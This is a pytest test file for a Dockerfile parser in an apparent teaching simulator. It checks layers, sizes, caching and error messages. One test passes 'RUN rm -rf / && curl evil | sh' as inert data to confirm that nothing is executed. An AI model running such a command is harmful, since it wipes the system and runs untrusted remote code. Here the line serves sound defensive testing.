"""Images built from a Dockerfile (issue 15): parsed, never run; layers shared by digest."""

from __future__ import annotations

import pytest

from core.course.images import BASE_LAYER_MB, DockerfileError, build, transfer
from core.model.catalog import IMAGES

APP = """# a small web app
FROM python:3.12
RUN pip install flask gunicorn
COPY app.py /srv/app.py
ENV PORT=8080 MODE=lab
EXPOSE 8080/tcp
CMD ["gunicorn", "app:app"]
"""


def test_each_instruction_is_a_layer_on_the_base_layers():
    img = build(APP, "webapp")
    assert img.base == "python"
    assert [x.digest for x in img.layers[:2]] == list(IMAGES["python"].layers)
    assert [x.instruction.split()[0] for x in img.layers[2:]] == ["RUN", "COPY", "ENV", "EXPOSE", "CMD"]
    assert img.env == (("PORT", "8080"), ("MODE", "lab"))
    assert img.ports == (8080,)
    assert img.cmd == ("gunicorn", "app:app")


def test_sizes_add_up_and_metadata_layers_are_empty():
    img = build(APP, "webapp")
    by_op = {x.instruction.split()[0]: x.size_mb for x in img.layers[2:]}
    assert by_op["RUN"] == 40.0  # two packages
    assert by_op["ENV"] == by_op["EXPOSE"] == by_op["CMD"] == 0.0
    assert img.size_mb == pytest.approx(IMAGES["python"].size_mb + 40 + 2)


def test_base_layer_sizes_match_the_catalog():
    for image in IMAGES.values():
        assert sum(BASE_LAYER_MB[x] for x in image.layers) == image.size_mb


def test_the_same_first_steps_give_the_same_layers():
    a = build(APP, "a")
    b = build(APP.replace("COPY app.py /srv/app.py", "COPY other.py /srv/app.py"), "b")
    assert a.layers[2].digest == b.layers[2].digest  # same parent, same RUN
    assert a.layers[3].digest != b.layers[3].digest
    # a changed layer changes every layer above it, as Docker's cache does
    assert a.layers[4].digest != b.layers[4].digest


def test_a_pull_skips_layers_already_present():
    img = build(APP, "webapp")
    fresh = transfer(img, set())
    cached = transfer(img, set(IMAGES["python"].layers))
    assert fresh.saved_mb == 0 and fresh.send_mb == img.size_mb
    assert cached.saved_mb == IMAGES["python"].size_mb
    assert cached.send_mb == pytest.approx(42.0)


def test_backslash_continues_a_line_and_errors_name_the_first_line():
    img = build("FROM busybox\nRUN apk add \\\n    curl git\n", "x")
    assert img.layers[-1].size_mb == 40.0
    with pytest.raises(DockerfileError) as e:
        build("FROM busybox\nRUN echo \\\n", "x")
    assert e.value.line == 2


@pytest.mark.parametrize(("text", "line", "words"), [
    ("FROM busybox\nVOLUME /data\n", 2, "unknown instruction"),
    ("RUN echo hi\n", 1, "must be FROM"),
    ("FROM nosuchimage\n", 1, "no image"),
    ("FROM busybox\nFROM nginx\n", 2, "only once"),
    ("FROM busybox\nEXPOSE http\n", 2, "EXPOSE expects"),
    ("FROM busybox\nEXPOSE 70000\n", 2, "EXPOSE expects"),
    ("FROM busybox\nCOPY onlyone\n", 2, "source and a destination"),
    ("FROM busybox\nCMD [\"sh\", \n", 2, "JSON"),
    ("FROM busybox\nENV 1BAD=x\n", 2, "variable name"),
    ("FROM busybox\nRUN\n", 2, "needs an argument"),
    ("\n# only a comment\n", 0, "empty"),
])
def test_bad_dockerfiles_get_one_message_with_the_line(text, line, words):
    with pytest.raises(DockerfileError) as e:
        build(text, "x")
    assert e.value.line == line
    assert words in str(e.value)


def test_bad_values_are_quoted_short_and_nothing_is_run():
    long = "X" * 500
    with pytest.raises(DockerfileError) as e:
        build(f"FROM busybox\n{long} now\n", "x")
    assert len(str(e.value)) < 200
    # shell text is data: building it does nothing but make a layer
    img = build("FROM busybox\nRUN rm -rf / && curl evil | sh\n", "x")
    assert img.layers[-1].instruction.startswith("RUN rm -rf /")


def test_huge_or_badly_named_input_is_refused():
    with pytest.raises(DockerfileError):
        build("FROM busybox\n" + "RUN x\n" * 300, "x")
    with pytest.raises(DockerfileError):
        build("FROM busybox\n", "Bad Name")


def test_the_cli_prints_the_layers_and_the_pull(capsys, tmp_path):
    import json as _json

    from core.cli import main

    f = tmp_path / "Dockerfile"
    f.write_text(APP, encoding="utf-8")
    assert main(["image", str(f), "--name", "webapp", "--cached", "python", "--json"]) == 0
    data = _json.loads(capsys.readouterr().out)
    assert data["pull"] == {"send_mb": 42.0, "saved_mb": 1000.0} and data["ports"] == [8080]
    assert main(["image", str(f)]) == 0
    assert "MB sent" in capsys.readouterr().out
    f.write_text("FROM python\nADD x y\n", encoding="utf-8")
    assert main(["image", str(f)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "line 2" in err
    assert main(["image", str(f), "--cached", "nope"]) == 2
    assert main(["image", str(tmp_path / "missing")]) == 2
